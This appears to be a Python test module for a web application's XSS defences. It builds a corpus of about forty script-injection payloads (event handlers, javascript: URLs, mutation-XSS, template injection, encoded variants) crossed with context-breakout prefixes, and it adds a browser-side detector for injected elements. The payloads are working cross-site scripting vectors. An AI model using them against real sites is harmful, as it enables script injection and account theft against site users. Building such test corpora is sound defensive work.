"""Texts that want to be scripts: ways to run one, times the places it might have to break out of."""

from collections.abc import Sequence

DEED = "alert(1)"
ELSEWHERE = "//elsewhere.invalid"

# ways to run a script, or to send a reader elsewhere
WAYS: Sequence[str] = (
    f"<script>{DEED}</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<script type=module>{DEED}</script>",
    f"<img src=x onerror={DEED}>",
    f"<img src={ELSEWHERE}/pixel.png>",
    f"<svg onload={DEED}>",
    f"<svg><script>{DEED}</script></svg>",
    f"<svg><animate onbegin={DEED} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{DEED}><a id=x><text>x</text></a></svg>",
    f"<iframe src='javascript:{DEED}'></iframe>",
    f"<iframe srcdoc='<script>top.{DEED}</script>'></iframe>",
    f"<object data='javascript:{DEED}'></object>",
    f"<embed src='javascript:{DEED}'>",
    f"<details open ontoggle={DEED}><summary>x</summary></details>",
    f"<video src=x onerror={DEED}></video>",
    f"<audio src onloadstart={DEED}></audio>",
    f"<input autofocus onfocus={DEED}>",
    f"<button autofocus onfocus={DEED}>x</button>",
    f"<a href='javascript:{DEED}' autofocus onfocus={DEED}>x</a>",
    f"<a href='java\tscript:{DEED}'>x</a>",
    f"<form action='javascript:{DEED}'><input type=submit autofocus onfocus={DEED}></form>",
    f"<body onload={DEED} onpageshow={DEED}>",
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    f"<base href={ELSEWHERE}/>",
    f"<x style='animation:blink 1s' onanimationstart={DEED} onanimationend={DEED}>x</x>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DEED}>",
    f"<noscript><p title='</noscript><img src=x onerror={DEED}>'>",
    f"<template><script>{DEED}</script></template>",
    f"<div hx-get={ELSEWHERE}/x hx-trigger=load></div>",
    f"<div data-hx-get=/x data-hx-trigger=load hx-on:load={DEED}></div>",
    f"<trix-editor input=x contenteditable><img src=x onerror={DEED}></trix-editor>",
    f"<img src=x oNeRrOr={DEED}//",
    f" onfocus={DEED} autofocus tabindex=1 x=",
    f"&lt;img src=x onerror={DEED}&gt;",
    f"&#60;script&#62;{DEED}&#60;/script&#62;",
    f"%3Cscript%3E{DEED}%3C/script%3E",
    f"{{{{constructor.constructor('{DEED}')()}}}}{{% x %}}${{{DEED}}}",
    f"javascript:{DEED}",
    f"＜script＞{DEED}＜/script＞",
)
# what a text would have to end first: a value, a tag, an element that holds only text
PLACES: Sequence[str] = (
    "", '"', "'", '">', "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "</template>", "-->",
    "</option></select>", "</td></tr></table>", "]]>", "\\\"'>",
)  # fmt: skip

CORPUS: Sequence[str] = tuple(f"{place}{way}" for way in WAYS for place in PLACES)


def packed(length: int) -> list[str]:
    """The whole corpus in texts of at most so many characters: for fields that are shown one on a page."""
    texts = [""]
    for each in CORPUS:
        if len(texts[-1]) + len(each) > length:
            texts.append("")
        texts[-1] += each
    return texts


# Runs in the page: what is there that our own templates never write.
FOREIGN = """() => [...document.querySelectorAll("*")].flatMap((element) => {
    const found = [...element.attributes].filter(({ name, value }) =>
        name.startsWith("on") || /^\\s*(j\\s*a\\s*v\\s*a\\s*script|data):/i.test(value) && name !== "value"
            && !name.startsWith("data-") && !["title", "aria-label", "content", "alt", "placeholder"].includes(name)
        || value.includes("elsewhere.invalid") && ["src", "action", "formaction", "srcset"].includes(name));
    const isOurs = element.tagName !== "SCRIPT" || element.nonce;
    const isLetter = element.matches("iframe[sandbox]:not([sandbox*=scripts], [srcdoc])")
        && /^[/](agent[/]tickets[/][^/?]+[/]messages[/]\\d+[/]original|admin[/]templates[/]\\w+[/]letter)([?][^#]*)?$/
            .test(element.getAttribute("src"));
    const isUnknown = element.tagName === "IFRAME" && !isLetter
        || ["OBJECT", "EMBED", "BASE", "MARQUEE", "X", "MATH", "AUDIO", "VIDEO"].includes(element.tagName)
        || element.tagName === "META" && element.httpEquiv === "refresh";
    return found.length || !isOurs || isUnknown ? [element.outerHTML.slice(0, 200)] : [];
})"""
